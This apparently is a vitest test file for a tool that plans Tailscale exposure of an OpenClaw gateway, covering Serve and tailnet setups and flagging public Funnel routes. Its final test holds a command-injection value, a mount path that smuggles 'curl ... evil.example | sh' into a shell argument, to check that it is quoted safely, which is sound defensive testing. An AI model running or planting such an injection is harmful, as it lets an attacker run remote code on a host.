import { describe, expect, it } from 'vitest';
import { buildTailscalePlan, type TailscalePlanOptions } from '../../../../src/remote/tailscale/plan.js';
import { renderTailscalePlan } from '../../../../src/remote/tailscale/render.js';
import type { AnalysisContext } from '../../../../src/model/context.js';
import { compose, withConfig, withContainers, withGatewayProcess, withSockets, tcpListener } from '../../../fixtures/builders/snapshot.js';
import { CONFIG_TEXT, gatewayOn, host, LAN, TAILSCALE0, TOKEN, withTailscale } from './hosts.js';

const CONFIG = '/home/u/.openclaw/openclaw.json';

function plan(ctx: AnalysisContext, options: Partial<TailscalePlanOptions> = {}) {
  return buildTailscalePlan(ctx, { allow: [], format: 'grants', readFile: () => undefined, ...options });
}

const stepIds = (p: ReturnType<typeof plan>) => p.steps.map((s) => s.id);

describe('tailscale plan: the recommendation per host', () => {
  it('loopback gateway with Tailscale up: Serve, OpenClaw runs it, policy on 443', () => {
    const p = plan(host(TAILSCALE0, withTailscale('status-running.json', 'serve-none.json'), gatewayOn(['127.0.0.1'], { bind: 'loopback' })));
    expect(p.recommendation).toMatchObject({ setup: 'serve', for: 'browser', chosenBy: 'host' });
    expect(p.gateway.bind.observed).toBe('loopback');
    expect(p.exposure).toEqual([]);
    expect(stepIds(p)).toEqual(['config.gateway', 'gateway.restart', 'tailnet.policy', 'verify']);
    expect(p.steps[0]!.commands).toEqual(['openclaw config set gateway.tailscale.mode serve']);
    expect(p.steps.find((s) => s.id === 'tailnet.policy')!.commands).toEqual(['sudo tailscale up --advertise-tags=tag:openclaw-gateway']);
    expect(p.steps.find((s) => s.id === 'verify')!.notes.join()).toContain('https://gw.tail1234.ts.net/');
    expect(p.policy).toMatchObject({ port: 443, placeholder: true });
    expect(p.tailscale).toMatchObject({
      state: 'running',
      addresses: ['100.101.102.103', 'fd7a:115c:a1e0::1234:5678'],
      dnsName: 'gw.tail1234.ts.net',
      interface: 'tailscale0',
    });
  });

  it('loopback gateway already behind OpenClaw Serve (foreground claim, no Funnel) and tagged: nothing to change but the policy', () => {
    const serve = {
      Foreground: { s1: { TCP: { '443': { HTTPS: true } }, Web: { 'gw.tail1234.ts.net:443': { Handlers: { '/': { Proxy: 'http://127.0.0.1:41873' } } } } } },
    };
    const ctx = host(
      TAILSCALE0,
      withTailscale('status-tagged.json', 'serve-none.json'),
      gatewayOn(['127.0.0.1'], { bind: 'loopback', tailscale: { mode: 'serve' } }),
      withSockets(tcpListener('127.0.0.1', 41873, 42, 'openclaw-gateway')),
      (s) => (s.tailscale.status === 'ok' ? { ...s, tailscale: { ...s.tailscale, data: { ...s.tailscale.data, serve: { status: 'ok', data: serve } } } } : s),
    );
    const p = plan(ctx, { allow: ['alice@example.com'] });
    expect(p.recommendation.setup).toBe('serve');
    expect(p.tailscale.gatewayRoutes).toMatchObject([{ targetPort: 41873, funnel: false, scope: 'foreground' }]);
    expect(p.exposure).toEqual([]);
    expect(stepIds(p)).toEqual(['tailnet.policy', 'verify']);
    expect(p.steps[0]!.commands).toEqual([]);
  });

  it('tailnet-bound gateway: keeps the tailnet bind for CLI and agents, admits the port on tailscale0 only', () => {
    const p = plan(
      host(
        TAILSCALE0,
        withTailscale('status-running.json', 'serve-none.json'),
        gatewayOn(['100.101.102.103', '127.0.0.1'], { bind: 'tailnet', auth: { mode: 'token', token: TOKEN } }),
      ),
    );
    expect(p.recommendation).toMatchObject({ setup: 'tailnet', for: 'cli', chosenBy: 'host' });
    expect(p.gateway.bind).toMatchObject({ observed: 'tailnet', configured: 'tailnet' });
    expect(stepIds(p)).toEqual(['firewall.tailnet-only', 'tailnet.policy', 'verify']);
    expect(p.steps[0]!.commands).toEqual(['sudo ufw allow in on tailscale0 to any port 18789 proto tcp']);
    expect(p.steps.find((s) => s.id === 'verify')!.commands[0]).toBe('curl -fsS http://100.101.102.103:18789/healthz');
    expect(p.policy.port).toBe(18789);
    expect(p.reach.find((r) => r.kind === 'tailnet')).toMatchObject({ zone: 'tailnet:tailscale0', verdict: 'open' });
  });

  it('LAN-bound gateway with Tailscale: back to loopback behind Serve, with a diff that keeps comments', () => {
    const ctx = host(LAN, TAILSCALE0, withTailscale('status-running.json', 'serve-none.json'), gatewayOn(['0.0.0.0'], { bind: 'lan', port: 18789 }));
    const p = plan(ctx, { readFile: (path) => (path === CONFIG ? CONFIG_TEXT : undefined) });
    expect(p.recommendation).toMatchObject({ setup: 'serve', chosenBy: 'host' });
    expect(p.recommendation.why).toContain('beyond loopback');
    expect(p.gateway.bind.observed).toBe('wildcard');
    const config = p.steps.find((s) => s.id === 'config.gateway')!;
    expect(config.commands).toEqual(['openclaw config set gateway.bind loopback', 'openclaw config set gateway.tailscale.mode serve']);
    expect(config.diff).toContain(' port: 18789, // the default');
    expect(config.diff).toMatch(/^-\s+bind: "lan",$/m);
    expect(config.diff).toMatch(/^\+\s+bind: "loopback",$/m);
    expect(config.diff).toMatch(/^\+.*mode: "serve"/m);
    expect(p.notes.join('\n')).toMatch(/open now from .*lan:eth1/);
  });

  it('--for cli on a LAN-bound gateway without auth: tailnet bind plus a token', () => {
    const ctx = host(LAN, TAILSCALE0, withTailscale('status-running.json', 'serve-none.json'), gatewayOn(['0.0.0.0'], { bind: 'lan' }));
    const p = plan(ctx, { for: 'cli', readFile: () => CONFIG_TEXT });
    expect(p.recommendation).toMatchObject({ setup: 'tailnet', chosenBy: 'option' });
    const config = p.steps.find((s) => s.id === 'config.gateway')!;
    expect(config.commands).toEqual([
      'openclaw config set gateway.bind tailnet',
      'openclaw config set gateway.auth.mode token',
      'openclaw doctor --generate-gateway-token',
    ]);
    expect(config.diff).toMatch(/^\+\s+bind: "tailnet",$/m);
  });

  it('no Tailscale: one line saying what was not checked and why, and the install step first', () => {
    const p = plan(host(gatewayOn(['127.0.0.1'], {})));
    expect(p.tailscale.state).toBe('not-installed');
    expect(p.tailscale.notChecked).toBe('Tailscale Serve/Funnel not checked: tailscale is not installed.');
    expect(p.notes[0]).toBe(p.tailscale.notChecked);
    expect(p.steps[0]).toMatchObject({ id: 'tailscale.install', commands: ['curl -fsSL https://tailscale.com/install.sh | sh', 'sudo tailscale up'] });
    expect(p.recommendation.setup).toBe('serve');
    const text = renderTailscalePlan(p, { color: false });
    expect(text.split('\n').filter((l) => l.includes('not checked'))).toEqual(['  Tailscale Serve/Funnel not checked: tailscale is not installed.']);
  });

  it('tailscaled not running: says so, and still sees the tailnet interface', () => {
    const p = plan(
      host(
        TAILSCALE0,
        (s) => ({
          ...s,
          tailscale: {
            status: 'unavailable',
            reason: 'not-running',
            detail: 'tailscaled is not running (tailscale status --json: failed to connect to local tailscaled); Serve and Funnel were not checked',
          },
        }),
        gatewayOn(['127.0.0.1'], {}),
      ),
    );
    expect(p.tailscale.state).toBe('not-running');
    expect(p.tailscale.notChecked).toContain('tailscaled is not running');
    expect(p.tailscale.interface).toBe('tailscale0');
    expect(p.steps[0]!.id).toBe('tailscale.start');
  });

  it('Tailscale stopped: brings it up', () => {
    const p = plan(host(withTailscale('status-stopped.json', 'serve-none.json'), gatewayOn(['127.0.0.1'], {})));
    expect(p.tailscale).toMatchObject({ state: 'logged-out', backendState: 'Stopped', addresses: [] });
    expect(p.steps[0]).toMatchObject({ id: 'tailscale.up', commands: ['sudo tailscale up'] });
  });
});

describe('tailscale plan: Funnel is public exposure', () => {
  it('flags a Funnel route to the gateway as critical and turns it off first', () => {
    const p = plan(host(TAILSCALE0, withTailscale('status-running.json', 'serve-funnel-gateway.json'), gatewayOn(['127.0.0.1'], {})));
    expect(p.exposure).toEqual([
      {
        id: 'tailscale.funnel',
        severity: 'critical',
        message: expect.stringContaining('whole internet'),
        evidence: ['funnel https://gw.tail1234.ts.net:8443 → http://127.0.0.1:18789'],
      },
    ]);
    expect(p.steps[0]).toMatchObject({ id: 'funnel.off', commands: ['sudo tailscale funnel --https=8443 off'] });
    expect(renderTailscalePlan(p, { color: false })).toMatch(/^CRITICAL tailscale\.funnel: /);
  });

  it('flags a Funnel on a raw TCP forward', () => {
    const p = plan(host(TAILSCALE0, withTailscale('status-running.json', 'serve-tcp-forward.json'), gatewayOn(['127.0.0.1'], {})));
    expect(p.exposure[0]!.evidence).toEqual(['funnel tcp :10000 → localhost:18789']);
    expect(p.steps[0]!.commands).toEqual(['sudo tailscale funnel --tcp=10000 off']);
  });

  it("flags OpenClaw's own Funnel: a foreground claim on an ephemeral port of the gateway process", () => {
    const ctx = host(
      TAILSCALE0,
      withTailscale('status-running.json', 'serve-foreground-openclaw.json'),
      gatewayOn(['127.0.0.1'], {}),
      withSockets(tcpListener('127.0.0.1', 41873, 42, 'openclaw-gateway')),
    );
    const p = plan(ctx);
    expect(p.exposure[0]!.evidence).toEqual(['funnel https://gw.tail1234.ts.net:443 → http://127.0.0.1:41873 (foreground)']);
  });

  it('flags gateway.tailscale.mode "funnel" in the config, and moves it to serve', () => {
    const p = plan(host(withTailscale('status-running.json', 'serve-none.json'), gatewayOn(['127.0.0.1'], { tailscale: { mode: 'funnel' } })));
    expect(p.exposure[0]!.evidence[0]).toMatch(/^tailscale mode "funnel" from gateway\.tailscale\.mode/);
    expect(p.steps.find((s) => s.id === 'config.gateway')!.commands).toEqual(['openclaw config set gateway.tailscale.mode serve']);
  });

  it('does not flag a Funnel to another service', () => {
    const serve = {
      Web: { 'gw.tail1234.ts.net:443': { Handlers: { '/': { Proxy: 'http://127.0.0.1:3000' } } } },
      AllowFunnel: { 'gw.tail1234.ts.net:443': true },
    };
    const ctx = host(withTailscale('status-running.json', 'serve-none.json'), gatewayOn(['127.0.0.1'], {}), (s) =>
      s.tailscale.status === 'ok' ? { ...s, tailscale: { ...s.tailscale, data: { ...s.tailscale.data, serve: { status: 'ok', data: serve } } } } : s,
    );
    expect(plan(ctx).exposure).toEqual([]);
  });

  it('an external Serve route to the gateway port: removed so OpenClaw can claim Serve', () => {
    const p = plan(host(TAILSCALE0, withTailscale('status-running.json', 'serve-loopback-gateway.json'), gatewayOn(['127.0.0.1'], {})));
    expect(p.exposure).toEqual([]);
    expect(p.recommendation.why).toContain('a Serve route already reaches it');
    expect(p.steps.find((s) => s.id === 'serve.external-off')!.commands).toEqual(['sudo tailscale serve --https=443 --set-path=/ off']);
  });
});

describe('tailscale plan: options', () => {
  it('--port names the gateway when nothing shows it', () => {
    const ctx = host(compose(withGatewayProcess(7, ['node']), withConfig({ gateway: {} }), withSockets(tcpListener('127.0.0.1', 28789, 99))));
    const p = plan(ctx, { port: 28789 });
    expect(p.gateway).toMatchObject({ port: 28789, portSource: '--port' });
    expect(p.gateway.bind.observed).toBe('loopback');
  });

  it('--port judges reach for that port: a Docker-published gateway with no host socket is open as if the config named it', () => {
    // Published 0.0.0.0:28789 -> 18789 with the userland proxy off: no socket, only Docker's DNAT.
    const published = withContainers({ name: 'openclaw', ports: [{ containerPort: 18789, hostPort: '28789', hostIp: '', protocol: 'tcp' }] });
    const byPort = plan(host(LAN, TAILSCALE0, withTailscale('status-running.json', 'serve-none.json'), published), { port: 28789 });
    const byConfig = plan(
      host(LAN, TAILSCALE0, withTailscale('status-running.json', 'serve-none.json'), published, compose(withConfig({ gateway: { port: 28789 } }))),
    );
    expect(byConfig.reach.filter((r) => r.verdict === 'open').map((r) => r.zone)).toEqual(expect.arrayContaining(['lan:eth1', 'tailnet:tailscale0']));
    expect(byPort.reach).toEqual(byConfig.reach);
    expect(byPort.notes.join('\n')).toContain('the gateway is open now from');
  });

  it('the JSON form round-trips and names its schema version', () => {
    const p = plan(host(TAILSCALE0, withTailscale('status-running.json', 'serve-none.json'), gatewayOn(['127.0.0.1'], {})), {
      allow: ['alice@example.com'],
      format: 'acls',
    });
    const json = JSON.parse(JSON.stringify(p)) as typeof p;
    expect(json.schemaVersion).toBe(1);
    expect(json.policy).toMatchObject({ format: 'acls', principals: ['alice@example.com'], placeholder: false });
  });
});

describe('tailscale plan: host words in its commands', () => {
  it('a Serve mount path from the tailscale daemon is one shell word in the sudo line', () => {
    const serve = {
      TCP: { '443': { HTTPS: true } },
      Web: { 'gw.tail1234.ts.net:443': { Handlers: { '/x;curl${IFS}evil.example|sh;#': { Proxy: 'http://127.0.0.1:18789' } } } },
    };
    const ctx = host(TAILSCALE0, withTailscale('status-running.json', 'serve-none.json'), gatewayOn(['127.0.0.1'], {}), (s) =>
      s.tailscale.status === 'ok' ? { ...s, tailscale: { ...s.tailscale, data: { ...s.tailscale.data, serve: { status: 'ok', data: serve } } } } : s,
    );
    const text = renderTailscalePlan(plan(ctx), { color: false });
    expect(text).toContain("$ sudo tailscale serve --https=443 --set-path='/x;curl${IFS}evil.example|sh;#' off");
    expect(text).not.toContain('--set-path=/x;curl');
  });
});
